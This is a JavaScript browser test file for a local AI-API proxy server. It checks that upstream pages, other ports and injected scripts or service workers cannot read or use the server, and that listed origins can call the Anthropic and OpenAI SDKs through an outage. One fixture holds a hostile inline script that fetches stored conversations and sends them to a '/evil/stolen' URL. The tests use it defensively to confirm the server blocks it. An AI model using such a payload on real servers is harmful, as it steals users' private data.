// What pages may do that are not the server's own: an upstream's at the same origin, those of another port of
// this machine, and those that the configuration lists.
import assert from 'node:assert/strict'
import http from 'node:http'
import { createRequire } from 'node:module'
import { fileURLToPath } from 'node:url'
import test, { after } from 'node:test'

import { browser, close, launch, undo, world } from './world.mjs'

after(close)

// site starts a web server on another port. It knows the files by path, and counts what it is asked for.
async function site(t, files) {
  const asked = []
  const server = http.createServer((req, res) => {
    asked.push(`${req.method} ${req.url}`)
    const [type, body] = files[req.url.split('?')[0]] ?? ['text/html', '<title>a page</title>']
    res.writeHead(200, {
      'Content-Type': type, 'Access-Control-Allow-Origin': '*', 'Service-Worker-Allowed': '/', 'Set-Cookie': 'evil=1', 'Content-Security-Policy': 'script-src *',
    })
    res.end(body)
  })
  await new Promise((ready) => server.listen(0, '127.0.0.1', ready))
  undo(t, () => (server.closeAllConnections(), new Promise((end) => server.close(end))))
  return { url: `http://127.0.0.1:${server.address().port}`, asked }
}

const evil = `<title>quiet</title><script>
document.title = 'ran'
fetch('/-/conversations').then((r) => r.text()).then((text) => fetch('/evil/stolen?' + encodeURIComponent(text)))
</script><script src="/evil/script.js"></script>`

const hostile = { '/page.html': ['text/html', evil], '/script.js': ['text/javascript', "document.title = 'ran'"], '/sw.js': ['text/javascript', 'onfetch = () => {}; globalThis.postMessage?.(1)'] }

const behind = (upstream, more = '') => ({ config: `upstreams: {evil: {api: openai, url: "${upstream.url}"}}\n${more}` })

async function visit(t, started = browser(), options = {}) {
  const context = await (await started).newContext(options)
  undo(t, () => context.close())
  return context.newPage()
}

test('a page of an upstream does not open, and would not run', async (t) => {
  const upstream = await site(t, hostile)
  const w = await world(t, behind(upstream, 'hosts: [gate.test]\n'))
  const page = await visit(t)
  const refused = await page.goto(w.url + '/evil/page.html')
  assert.equal(refused.status(), 403)
  assert.match(await refused.text(), /a browser can open or load nothing from this server but the page at \/-\/ui\//)
  assert.deepEqual(upstream.asked, [])
  // Without TLS and under another name than localhost, a browser does not say what it wants the answer for.
  const far = await visit(t, launch(t, '--host-resolver-rules=MAP gate.test 127.0.0.1'))
  const opened = await far.goto(w.url.replace('127.0.0.1', 'gate.test') + '/evil/page.html')
  assert.equal(opened.status(), 200)
  assert.equal(await far.title(), 'quiet')
  assert.deepEqual(await far.context().cookies(), [])
  assert.deepEqual(upstream.asked, ['GET /page.html'])
})

test('an upstream gives the server\'s own page no service worker, worker or script', async (t) => {
  const upstream = await site(t, hostile)
  const w = await world(t, behind(upstream))
  const page = await visit(t, browser(), { bypassCSP: true }) // which would refuse most of it already
  await page.goto(w.page)
  const outcomes = await page.evaluate(async () => {
    const done = (e) => new Promise((yes) => Object.assign(e, { onload: () => yes('loaded'), onmessage: () => yes('ran'), onerror: () => yes('failed') }))
    return {
      service: await navigator.serviceWorker.register('/evil/sw.js', { scope: '/' }).then(() => 'registered', (e) => e.message),
      worker: await done(new Worker('/evil/sw.js')),
      script: await done(document.body.appendChild(Object.assign(document.createElement('script'), { src: '/evil/script.js' }))),
    }
  })
  assert.match(outcomes.service, /bad HTTP response code \(403\)/)
  assert.deepEqual([outcomes.worker, outcomes.script], ['failed', 'failed'])
  assert.deepEqual(upstream.asked, [])
})

test('another port of this machine reads nothing and sends nothing', async (t) => {
  const upstream = await site(t, hostile)
  const w = await world(t, behind(upstream))
  await w.post('conversations', { id: 'secret' })
  const other = await site(t, {})
  const page = await visit(t)
  await page.goto(other.url)
  const tried = await page.evaluate(async (url) => {
    const outcome = (promise) => promise.then((v) => `came: ${v}`, () => 'failed')
    const element = (name, attributes) => new Promise((yes, no) => {
      const e = Object.assign(document.createElement(name), attributes)
      e.onload = () => yes('loaded')
      e.onerror = no
      document.body.append(e)
    })
    const read = (path, options) => outcome(fetch(url + path, options).then((r) => r.text()))
    return {
      conversations: await read('/-/conversations'),
      live: await read('/-/live'),
      models: await read('/evil/models'),
      answer: await read('/evil/v1/chat/completions', { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } }),
      script: await outcome(element('script', { src: url + '/evil/script.js' })),
      image: await outcome(element('img', { src: url + '/evil/models' })),
      socket: await outcome(new Promise((yes, no) => Object.assign(new WebSocket(url.replace('http', 'ws') + '/-/conversations/secret/socket'), { onopen: () => yes('opened'), onerror: no }))),
      blind: await fetch(url + '/evil/v1/chat/completions', { method: 'POST', mode: 'no-cors', body: '{}' }).then((r) => r.type, () => 'failed'), // unreadable
    }
  }, w.url)
  const { blind, ...rest } = tried
  assert.deepEqual(rest, { conversations: 'failed', live: 'failed', models: 'failed', answer: 'failed', script: 'failed', image: 'failed', socket: 'failed' })
  assert.match(blind, /^(opaque|failed)$/)
  assert.deepEqual(upstream.asked, [])
})

const root = fileURLToPath(new URL('../../', import.meta.url))
const { build } = createRequire(root + 'internal/server/web/package.json')('esbuild')

// bundle makes a module of the SDKs for browsers.
async function bundle() {
  const contents = "export { default as Anthropic } from '@anthropic-ai/sdk'\nexport { default as OpenAI } from 'openai'\n"
  const made = await build({ stdin: { contents, resolveDir: root + 'test/npm' }, bundle: true, format: 'esm', platform: 'browser', write: false, logLevel: 'error', external: ['node:*'] })
  return made.outputFiles[0].text
}

test('SDKs in a page of a listed origin ride out an outage', async (t) => {
  const app = await site(t, { '/sdk.js': ['text/javascript', await bundle()] })
  const token = 'a-token-that-is-long-enough'
  const w = await world(t, { replies: '529*2', wait: '100ms', token, config: `origins: ["${app.url}"]\n` })
  const page = await visit(t)
  await page.goto(app.url)
  const got = await page.evaluate(async ([url, apiKey]) => {
    const { Anthropic, OpenAI } = await import('/sdk.js')
    const messages = [{ role: 'user', content: 'Hi' }]
    const anthropic = new Anthropic({ apiKey, baseURL: url, dangerouslyAllowBrowser: true, maxRetries: 0 })
    const openai = new OpenAI({ apiKey, baseURL: url + '/v1', dangerouslyAllowBrowser: true, maxRetries: 0 })
    const { data, response } = await anthropic.messages.create({ model: 'm', max_tokens: 9, messages }).withResponse()
    let streamed = ''
    for await (const e of anthropic.messages.stream({ model: 'm', max_tokens: 9, messages })) streamed += e.delta?.text ?? ''
    const chat = await openai.chat.completions.create({ model: 'm', messages })
    const waits = await fetch(url + '/-/waits', { headers: { 'X-Ridethrough-Token': apiKey } })
    const refused = await fetch(url + '/-/waits')
    return { whole: data.content[0].text, retries: response.headers.get('X-Ridethrough-Retries'), streamed, chat: chat.choices[0].message.content, waits: await waits.json(), refused: refused.status }
  }, [w.url, token])
  assert.ok(got.whole.length > 0)
  assert.deepEqual(got, { whole: got.whole, retries: '2', streamed: got.whole, chat: got.whole, waits: { waits: [] }, refused: 401 })
})
